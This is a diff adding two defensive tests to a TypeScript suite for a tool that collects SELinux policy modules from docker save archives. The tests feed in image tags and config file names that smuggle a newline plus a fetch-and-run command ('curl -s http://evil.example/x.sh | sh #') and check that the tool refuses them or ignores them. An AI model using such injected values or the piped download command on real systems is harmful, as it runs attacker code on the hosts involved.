@@ -2,6 +2,7 @@
  * `policy collect --archive` on `docker save` archives built in the test (R-PM3): parents found by config history,
  * modules parent first, fail closed on a bad or overwritten module, unusable archives rejected with their reason.
  */
+import { createHash } from 'node:crypto';
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -78,6 +79,27 @@ describe('collect from a docker save archive', () => {
       ['../x', false, undefined, 'the label key "io.bulwark.selinux.module.../x" does not name a module: io.bulwark.selinux.module. must be followed by the module\'s block name (letters, digits, _, starting with a letter)'],
     ]);
     expect(c.valid).toBe(false);
+  });
+  it('refuses an archive whose RepoTags entry is not an image reference: a newline would start a command in the install plan (QA vp 1)', async () => {
+    const evil = { ...parent, tag: 'example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #' };
+    const f = await archive('eviltag.tar', [evil, child]);
+    await expect(collectFromArchive(f, base)).rejects.toThrow(`${f}: manifest.json[0] tags the image "example/httpd-base:1\\ncurl -s http://evil.example/x.sh | sh #", which is not an image reference: refused (a tag is name[:tag] in the grammar of distribution/reference)`);
+  });
+  it('an untagged image is named by its id, never by the free text of its config path (QA vp 1)', async () => {
+    const tar = await import('tar-stream');
+    const pack = tar.pack();
+    const chunks: Buffer[] = [];
+    pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
+    const done = new Promise<void>((ok) => pack.on('end', () => ok()));
+    const config = JSON.stringify({ config: { Labels: child.labels }, history: child.history.map((h) => ({ created_by: h })) });
+    pack.entry({ name: 'cfg\ncurl x|sh #.json' }, config);
+    pack.entry({ name: 'manifest.json' }, JSON.stringify([{ Config: 'cfg\ncurl x|sh #.json', RepoTags: null, Layers: [] }]));
+    pack.finalize();
+    await done;
+    writeFileSync(join(dir, 'untagged.tar'), Buffer.concat(chunks));
+    const c = await collectFromArchive(join(dir, 'untagged.tar'), base);
+    const id = 'sha256:' + createHash('sha256').update(config).digest('hex');
+    expect([c.id, c.image, c.chain, c.modules.map((m) => m.image)]).toEqual([id, id.slice(7, 19), [id.slice(7, 19)], [id.slice(7, 19), id.slice(7, 19)]]);
   });
   it('an image without module labels is not valid (nothing to install)', async () => {
     const c = await collectFromArchive(await archive('none.tar', [{ ...parent, labels: {} }]), base);
